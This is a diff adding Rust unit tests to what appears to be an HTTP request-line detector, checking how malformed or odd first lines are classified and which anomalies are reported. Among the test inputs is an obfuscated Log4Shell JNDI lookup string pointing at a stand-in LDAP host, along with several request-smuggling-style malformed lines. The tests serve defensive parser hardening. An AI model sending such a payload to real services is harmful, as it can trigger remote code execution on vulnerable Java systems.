@@ -26,6 +26,17 @@ fn is_recognised_by_its_first_line() {
         (b"OPTIONS rtsp://a/b", Match::No),
         (b"GET /a HTTP/2.0\r\n", Match::No),
         (b"FROBNICATE /a HTTP/1.1\r\n", Match::Yes),
+        (b"${${::-j}ndi:ldap://a.example/x} /test HTTP/1.1\r\n", Match::Yes),
+        (b"${${::-j}ndi:ldap://a.exa", Match::Maybe),
+        (b"\r\n\r\nGET / HTTP/1.0\r\n", Match::Yes),
+        (b"\r\n\r\n", Match::Maybe),
+        (b" GET / HTTP/1.1\r\n", Match::Yes),
+        (b"GET\t/\tHTTP/1.1\r\n", Match::Yes),
+        (b"get /x HTTP/1.1\r\n", Match::Yes),
+        (b"GET /a\rb HTTP/1.1\r\n", Match::Yes),
+        (b"GET /a HTTP/9.9\r\n", Match::Yes),
+        (b"GET /a\0b HTTP/1.1\r\n", Match::No),
+        (b"<13>x: \"GET / HTTP/1.1\" 200\r\n", Match::No),
         (b"CONNECT a.b:443 HTTP/1.1\r\n", Match::Yes),
         (b"HTTP/1.1 2", Match::Yes),
         (b"HTTP/1.", Match::Maybe),
@@ -293,4 +304,28 @@ fn a_flood_of_heads_stays_bounded() {
     feed(&mut state, Side::Originator, flood.as_bytes(), 1000, &mut out);
     assert_eq!(out.anomalies, ["pending_too_many"]);
     assert_eq!(out.events.len(), 4_999);
+}
+
+#[test]
+fn what_servers_read_against_the_grammar_is_read_and_told() {
+    for (line, wanted, odd) in [
+        (
+            &b"${${::-j}ndi:ldap://a.example/x} /t HTTP/1.1"[..],
+            ("${${::-j}ndi:ldap://a.example/x}", "/t"),
+            &["method_unknown"][..],
+        ),
+        (b" GET / HTTP/1.1", ("GET", "/"), &["request_line_invalid"]),
+        (b"GET\t/\tHTTP/1.1", ("GET", "/"), &["request_line_invalid"]),
+        (b"GET /a\rb HTTP/1.1", ("GET", "/a\rb"), &["request_line_invalid", "control_byte"]),
+        (b"get /x HTTP/1.1", ("get", "/x"), &["method_unknown"]),
+        (b"GET /x HTTP/9.9", ("GET", "/x"), &[]),
+    ] {
+        let request = [line, b"\r\nHost: h\r\n\r\n"].concat();
+        let (mut state, mut out) = (State::default(), Record::default());
+        feed(&mut state, C, &request, 7, &mut out);
+        state.end(&mut out);
+        let text = |fact| String::from_utf8_lossy(out.events[0].get(fact).unwrap_or_default()).into_owned();
+        assert_eq!((text(METHOD).as_str(), text(URL).as_str()), wanted);
+        assert_eq!(out.anomalies, odd, "{wanted:?}");
+    }
 }
